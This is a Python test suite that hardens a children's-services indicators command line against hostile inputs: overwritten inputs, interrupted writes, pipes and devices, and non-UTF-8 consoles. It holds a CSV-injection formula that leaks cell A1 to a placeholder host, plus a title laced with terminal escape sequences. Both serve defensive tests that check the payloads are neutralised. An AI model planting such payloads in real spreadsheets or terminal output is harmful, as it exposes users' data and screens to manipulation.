"""The command line under hostile inputs, run as a user runs it: ``python -m cyp_indicators``.

Issue 12: outputs that cannot overwrite inputs or be left half-written, Ctrl-C, consoles that are
not UTF-8, text that could drive a terminal or a spreadsheet, and every error as one line.
"""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import polars as pl
import pytest

EXAMPLE = (
    Path(__file__).resolve().parents[1]
    / "examples"
    / "local_definitions"
    / "front_door"
    / "contacts_to_early_help_pct.v1.toml"
)
RECORDS = Path(__file__).parent / "reference" / "records" / "demand_model"
COUNTS = "la,cla_at_31_march,population_0_17\n874,416,57621\n873,c,150000\n"
#: An OWASP CSV-injection example: opened in Excel it would send cell A1 to another site.
FORMULA = '=HYPERLINK("http://x/?leak="&A1,"y")'

# Installed for one subprocess through PYTHONPATH: the function named by CYP_STALL writes half a
# file where it was asked to write, says so on stderr and waits, as a long write would, so the
# test can press Ctrl-C (SIGINT) at that moment without guessing at timings.
STALL = """
import importlib, os, sys, time
module, _, name = os.environ["CYP_STALL"].partition(":")
owner_name, _, attr = name.rpartition(".")
owner = importlib.import_module(module)
if owner_name:
    owner = getattr(owner, owner_name)
def stalled(*args, **kwargs):
    with open(args[int(os.environ["CYP_STALL_ARG"])], "w") as handle:
        handle.write("half a ro")
    sys.stderr.write("STALLED\\n")
    sys.stderr.flush()
    time.sleep(600)
setattr(owner, attr, stalled)
"""


def cli(
    *args: str | Path, env: dict[str, str] | None = None, **kwargs: object
) -> subprocess.CompletedProcess[str]:
    """Run ``python -m cyp_indicators ARGS`` in a new process."""
    return subprocess.run(
        [sys.executable, "-m", "cyp_indicators", *map(str, args)],
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
        timeout=300,  # a hang fails the test instead of stalling the suite
        check=False,
        **kwargs,  # type: ignore[arg-type]
    )


def one_line(done: subprocess.CompletedProcess[str]) -> str:
    """The error line on stderr, checking it is one line without a traceback."""
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert "Traceback" not in done.stderr
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith("cyp-indicators: ")
    return lines[0]


@pytest.fixture
def counts(tmp_path: Path) -> Path:
    path = tmp_path / "counts.csv"
    path.write_text(COUNTS, encoding="utf-8")
    return path


# --- 4. outputs never overwrite inputs, never half-written ---------------------------------------


def test_output_equal_to_input_is_refused_and_the_input_kept(counts: Path) -> None:
    """The issue: --output equal to --input overwrote the input and exited 0."""
    done = cli("compute", "cla_rate_per_10k", "--input", counts, "--output", counts)

    assert done.returncode == 2
    assert "would overwrite the input" in one_line(done)
    assert counts.read_text(encoding="utf-8") == COUNTS


def test_another_name_for_the_input_is_refused(counts: Path, tmp_path: Path) -> None:
    """A link (or a hard link) to the input is the input."""
    (tmp_path / "link.csv").symlink_to(counts)
    os.link(counts, tmp_path / "hard.csv")
    for name in ("link.csv", "hard.csv"):
        done = cli("compute", "cla_rate_per_10k", "--input", counts, "--output", tmp_path / name)
        assert done.returncode == 2
        one_line(done)
    assert counts.read_text(encoding="utf-8") == COUNTS


def test_exclusions_cannot_overwrite_a_record_file(tmp_path: Path) -> None:
    """The issue: --exclusions could overwrite a record file. An output inside the records
    folder is refused (it would also be read as a record next time)."""
    records = tmp_path / "records"
    records.mkdir()
    for path in RECORDS.iterdir():
        (records / path.name).write_bytes(path.read_bytes())
    victim = records / "2019-header.csv"
    before = victim.read_bytes()
    args = ["compute", "cla_rate_per_10k", "--records", "ssda903", "--year", "2019"]
    args += ["--input", str(records), "--la", "874"]

    done = cli(*args, "--exclusions", victim)

    assert done.returncode == 2
    assert "inside the --input folder" in one_line(done)
    assert victim.read_bytes() == before


def test_output_and_exclusions_naming_one_file_are_refused(tmp_path: Path) -> None:
    """Two outputs to one file: the second would overwrite the first."""
    args = ["compute", "cla_rate_per_10k", "--records", "ssda903", "--year", "2019"]
    args += ["--input", str(RECORDS), "--la", "874"]
    out = tmp_path / "out.csv"

    done = cli(*args, "--exclusions", out, "--output", out)

    assert done.returncode == 2
    assert "name the same file" in one_line(done)


def test_an_output_that_is_a_folder_is_refused(counts: Path, tmp_path: Path) -> None:
    """xlsxwriter's FileCreateError escaped for an .xlsx target that is a folder."""
    folder = tmp_path / "out.xlsx"
    folder.mkdir()
    done = cli("compute", "cla_rate_per_10k", "--input", counts, "--output", folder)
    assert done.returncode == 2
    assert "is a folder" in one_line(done)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".json", ".parquet"])
def test_a_full_disk_is_one_line_and_leaves_the_old_file(
    counts: Path, tmp_path: Path, suffix: str
) -> None:
    """Writing fails part-way (here a file-size limit of 600 bytes, as a full disk would):
    one line, exit 1, the file that was there kept whole, no temporary file left behind."""
    big = tmp_path / "big.csv"
    rows = "".join(f"{800 + n},{n},{n * 100}\n" for n in range(1, 101))
    big.write_text("la,cla_at_31_march,population_0_17\n" + rows, encoding="utf-8")
    out = tmp_path / f"out{suffix}"
    out.write_bytes(b"the previous figures")

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (600, 600))

    done = cli("compute", "cla_rate_per_10k", "--input", big, "--output", out, preexec_fn=limit)

    assert done.returncode == 1
    assert "cannot write" in one_line(done)
    assert out.read_bytes() == b"the previous figures"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.csv", "counts.csv", out.name]


def _interrupt_while_writing(argv: list[str], stall: str, arg: int, tmp_path: Path) -> str:
    """Run the command with ``stall`` made to hang mid-write, press Ctrl-C, return stderr."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(STALL, encoding="utf-8")
    path = os.pathsep.join(filter(None, [str(hook), os.environ.get("PYTHONPATH")]))
    env = {**os.environ, "PYTHONPATH": path, "CYP_STALL": stall, "CYP_STALL_ARG": str(arg)}
    with subprocess.Popen(
        [sys.executable, "-m", "cyp_indicators", *argv],
        stderr=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        text=True,
        env=env,
    ) as proc:
        assert proc.stderr is not None
        seen = []
        for line in proc.stderr:  # until the write has begun
            seen.append(line)
            if line.strip() == "STALLED":
                break
        else:
            pytest.fail(f"the command ended before writing: {''.join(seen)}")
        proc.send_signal(signal.SIGINT)
        rest = proc.stderr.read()
        assert proc.wait(timeout=120) == 130
    return rest


def test_ctrl_c_while_writing_a_csv_leaves_the_old_file_whole(counts: Path, tmp_path: Path) -> None:
    """The issue: Ctrl-C while writing left a truncated CSV. Now the old file stays, the
    half-written one is removed, and the command says so in one line and exits 130."""
    out = tmp_path / "rates.csv"
    out.write_text("the previous figures\n", encoding="utf-8")
    argv = ["compute", "cla_rate_per_10k", "--input", str(counts), "--output", str(out)]

    rest = _interrupt_while_writing(argv, "polars:DataFrame.write_csv", 1, tmp_path)

    assert rest.strip() == "cyp-indicators: interrupted"
    assert out.read_text(encoding="utf-8") == "the previous figures\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["counts.csv", "hook", "rates.csv"]


def test_ctrl_c_while_writing_the_report_leaves_no_half_report(tmp_path: Path) -> None:
    """The issue: Ctrl-C left a half-written report. The HTML being written is removed."""
    out = tmp_path / "out"
    argv = ["report", "--la", "874", "--years", "2", "--out", str(out)]

    rest = _interrupt_while_writing(
        argv, "cyp_indicators.reports.benchmark_report:write_html", 1, tmp_path
    )

    assert rest.strip() == "cyp-indicators: interrupted"
    assert list(out.iterdir()) == []


def test_a_report_file_that_is_a_folder_is_one_line(tmp_path: Path) -> None:
    """xlsxwriter's FileCreateError escaped the CLI; now any write problem is one line."""
    (tmp_path / "benchmark_874.xlsx").mkdir()
    done = cli("report", "--la", "874", "--years", "1", "--out", tmp_path)
    assert done.returncode == 1
    assert "is a folder" in one_line(done)
    assert not (tmp_path / "benchmark_874.html").exists() or (
        tmp_path / "benchmark_874.html"
    ).read_text(encoding="utf-8").rstrip().endswith("</html>")


# --- 2. JSON that is JSON; values that are not numbers ------------------------------------------


def test_a_value_too_large_for_a_float_is_refused_naming_its_line(tmp_path: Path) -> None:
    """The issue: "1e400" read as infinity, and --output x.json wrote Infinity (not JSON)."""
    values = tmp_path / "values.csv"
    values.write_text(
        "la_code,year,value\n874,2024,75\n873,2024,1e400\nE92000001,2024,70\n", encoding="utf-8"
    )
    out = tmp_path / "out.json"

    done = cli("compare", "cla_rate_per_10k", "--input", values, "--output", out)

    assert done.returncode == 1
    line = one_line(done)
    assert "column 'value': must be a finite number" in line
    assert "line 3 of the file" in line
    assert not out.exists()


def test_a_negative_rate_is_refused_naming_its_line(tmp_path: Path) -> None:
    """A rate per 10,000 children cannot be negative."""
    values = tmp_path / "values.csv"
    values.write_text("la_code,year,value\n874,2024,75\n873,2024,-3\n", encoding="utf-8")
    done = cli("compare", "cla_rate_per_10k", "--input", values)
    assert done.returncode == 1
    assert "must not be negative (a rate)" in one_line(done)
    assert "line 3" in one_line(done)


def test_json_output_is_valid_json(counts: Path, tmp_path: Path) -> None:
    """The JSON written parses with a strict reader (no NaN, no Infinity)."""
    out = tmp_path / "out.json"
    done = cli("compute", "cla_rate_per_10k", "--input", counts, "--output", out)
    assert done.returncode == 0

    def refuse(token: str) -> None:
        raise AssertionError(f"not JSON: {token}")

    rows = json.loads(out.read_text(encoding="utf-8"), parse_constant=refuse)
    assert [r["la"] for r in rows] == ["874", "873"]
    assert rows[1]["value"] is None


# --- Security: spreadsheets and terminals ------------------------------------------------------


def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path: Path) -> None:
    """OWASP's rule: a text cell beginning with = + - @ tab or CR gets a leading quote; numbers
    (a negative gap included) stay numbers."""
    values = tmp_path / "values.csv"
    values.write_text(
        "la_code,year,value,note\n"
        f'874,2024,60,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "873,2024,80,+44 20 7946 0000\n"
        "E92000001,2024,70,@SUM(A1)\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"

    done = cli("compare", "cla_rate_per_10k", "--input", values, "--output", out)

    assert done.returncode == 0, done.stderr
    got = pl.read_csv(out, infer_schema_length=0)
    assert got["note"].to_list() == ["'" + FORMULA, "'+44 20 7946 0000"]
    assert got["gap_to_england"].to_list() == ["-10.0", "10.0"]


def test_xlsx_output_stores_formula_text_as_text(tmp_path: Path) -> None:
    """The XLSX writer stores text as strings: the workbook holds no formula at all."""
    values = tmp_path / "values.csv"
    values.write_text(
        f'la_code,year,value,note\n874,2024,60,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.xlsx"

    done = cli("compare", "cla_rate_per_10k", "--input", values, "--output", out)

    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "HYPERLINK" in strings
    assert pl.read_excel(out)["note"].to_list() == [FORMULA]


def _hostile_definition(folder: Path, title: str) -> None:
    folder.mkdir()
    text = EXAMPLE.read_text(encoding="utf-8").replace(
        'title = "Contacts to children\'s social care passed to early help (%)"',
        f'title = "{title}"',
    )
    assert title in text
    (folder / EXAMPLE.name).write_text(text, encoding="utf-8")


def test_control_sequences_in_a_title_never_reach_the_terminal(tmp_path: Path) -> None:
    """The issue: a title with ESC [2J (clear the screen) or an OSC sequence reached the
    terminal raw through show and list. Every control character is stripped."""
    folder = tmp_path / "council"
    _hostile_definition(folder, "Contacts\\u001b[2J\\u001b]0;owned\\u0007\\u009b31m passed on")

    outputs = [
        cli("show", "contacts_to_early_help_pct", "--definitions", folder),
        cli("list", "--keyword", "contacts", "--definitions", folder),
        cli("list", "--keyword", "contacts", "--json", "--definitions", folder),
        cli("show", "contacts_to_early_help_pct", "--json", "--definitions", folder),
    ]

    for done in outputs:
        assert done.returncode == 0, done.stderr
        assert not any(ch in done.stdout for ch in "\x1b\x07\x9b")
    assert "Contacts[2J]0;owned31m passed on" in outputs[0].stdout
    shown = json.loads(outputs[3].stdout)  # JSON keeps the title whole, escaped
    assert shown["title"] == "Contacts\x1b[2J\x1b]0;owned\x07\x9b31m passed on"


def test_a_console_that_is_not_utf8_gets_replacements_not_a_traceback(tmp_path: Path) -> None:
    """The issue: printing to a cp1252 console raised UnicodeEncodeError."""
    folder = tmp_path / "council"
    _hostile_definition(folder, "Contacts ≥ 3 a month → early help")
    env = {"PYTHONIOENCODING": "cp1252"}
    show = ["show", "contacts_to_early_help_pct", "--definitions", folder]

    done = cli(*show, env=env, encoding="cp1252")
    as_json = cli(*show, "--json", env=env, encoding="cp1252")

    assert done.returncode == 0, done.stderr
    assert "Contacts ? 3 a month ? early help" in done.stdout
    assert as_json.returncode == 0, as_json.stderr
    assert json.loads(as_json.stdout)["title"] == "Contacts ≥ 3 a month → early help"
    table = cli(
        "list", "--topic", "front_door", "--definitions", folder, env=env, encoding="cp1252"
    )
    assert table.returncode == 0, table.stderr
    assert "+---" in table.stdout  # a table drawn in ASCII, not box characters turned to "?"
    assert "Contacts ? 3 a month ? early help" in table.stdout


def test_a_console_that_is_not_utf8_gets_error_messages_too(tmp_path: Path) -> None:
    """An error naming a file with characters the console cannot show is still one line."""
    missing = tmp_path / "données→.csv"
    done = cli(
        "compute",
        "cla_rate_per_10k",
        "--input",
        missing,
        env={"PYTHONIOENCODING": "cp1252"},
        encoding="cp1252",
    )
    assert done.returncode == 1
    assert "donn" in one_line(done)


# --- 5. definitions folders ----------------------------------------------------------------------


def test_an_empty_definitions_folder_is_a_usage_error(tmp_path: Path) -> None:
    """The issue: --definitions '' loaded every .toml under the current folder."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\n', encoding="utf-8")
    done = cli("list", "--definitions", "", cwd=tmp_path)
    assert done.returncode == 2
    assert "--definitions needs a folder name" in one_line(done)


def test_a_council_pack_removing_a_bundled_definition_is_refused(tmp_path: Path) -> None:
    """The issue: a council's packs/2024.toml silently dropped cla_rate_per_10k."""
    folder = tmp_path / "council"
    (folder / "packs").mkdir(parents=True)
    pack = folder / "packs" / "2024.toml"
    pack.write_text('year = 2024\nremoved = ["cla_rate_per_10k"]\n', encoding="utf-8")

    done = cli("show", "cla_rate_per_10k", "--year", "2024", "--definitions", folder)

    assert done.returncode == 1
    line = one_line(done)
    assert str(pack) in line
    assert "'cla_rate_per_10k' is a bundled definition" in line


def test_a_named_pipe_in_the_definitions_folder_does_not_hang(tmp_path: Path) -> None:
    """The issue: a named pipe as a .toml hung the command (run in a process of its own, so a
    hang fails this test at the time-out instead of stopping the suite)."""
    folder = tmp_path / "council"
    folder.mkdir()
    os.mkfifo(folder / "pipe.toml")
    done = cli("list", "--definitions", folder)
    assert done.returncode == 1
    assert "not a regular file" in one_line(done)
    assert str(folder / "pipe.toml") in one_line(done)


def test_a_device_linked_as_a_definition_does_not_exhaust_memory(tmp_path: Path) -> None:
    """The issue: /dev/zero linked as a .toml was read until memory ran out (here capped at
    2 GB for the process, so a regression fails instead of taking the machine down)."""
    folder = tmp_path / "council"
    folder.mkdir()
    (folder / "zero.toml").symlink_to("/dev/zero")

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    done = cli("validate", folder, preexec_fn=cap)
    assert done.returncode == 1
    assert "not a regular file" in one_line(done)


def test_a_repeated_header_is_one_line_naming_it(tmp_path: Path) -> None:
    """cla_at_31_march twice: the first was used, the second renamed without a word."""
    path = tmp_path / "counts.csv"
    path.write_text(
        "la,cla_at_31_march,population_0_17,cla_at_31_march\n874,416,57621,5000\n",
        encoding="utf-8",
    )
    done = cli("compute", "cla_rate_per_10k", "--input", path)
    assert done.returncode == 1
    assert "'cla_at_31_march' more than once" in one_line(done)


@pytest.mark.parametrize(
    ("argv", "name"),
    [
        (["compute", "cla_rate_per_10k", "--records", "ssda903", "--year", "2019"], "--input"),
        (["compare", "cla_rate_per_10k", "--la", "874", "--groups"], "groups"),
        (["published", "cla_rate_per_10k", "--source"], "--source"),
        (["validate"], "PATH"),
    ],
    ids=["records", "groups", "source", "validate"],
)
def test_a_named_pipe_given_as_a_file_does_not_hang(
    argv: list[str], name: str, tmp_path: Path
) -> None:
    """Every file the command line reads is a regular file (or a folder), never a pipe."""
    pipe = tmp_path / "data.csv"
    os.mkfifo(pipe)
    if name == "--input":
        argv = [*argv, "--input", str(pipe), "--population", "57621"]
    elif name == "groups":
        pipe = pipe.rename(tmp_path / "groups.toml")
        argv = [*argv, str(pipe)]
    else:
        argv = [*argv, str(pipe)]

    done = cli(*argv)

    assert done.returncode == 1
    assert "not a regular file" in one_line(done)


@pytest.mark.parametrize("population", ["nan", "inf", "1e400", "-5", "0"])
def test_a_population_that_is_not_a_positive_number_is_a_usage_error(population: str) -> None:
    """--population nan was accepted by argparse's float and failed deep inside the rate."""
    args = ["compute", "cla_rate_per_10k", "--records", "ssda903", "--year", "2019"]
    done = cli(*args, "--input", RECORDS, "--population", population)
    assert done.returncode == 2
    assert "must be a finite number above 0" in done.stderr


def test_validate_reads_a_linked_sub_folder(tmp_path: Path) -> None:
    """validate finds the definitions in a linked folder, as loading does."""
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / EXAMPLE.name).write_text(EXAMPLE.read_text(encoding="utf-8"), encoding="utf-8")
    folder = tmp_path / "council"
    folder.mkdir()
    (folder / "front_door").symlink_to(shared, target_is_directory=True)

    done = cli("validate", folder)

    assert done.returncode == 0, done.stderr
    assert "valid" in done.stdout
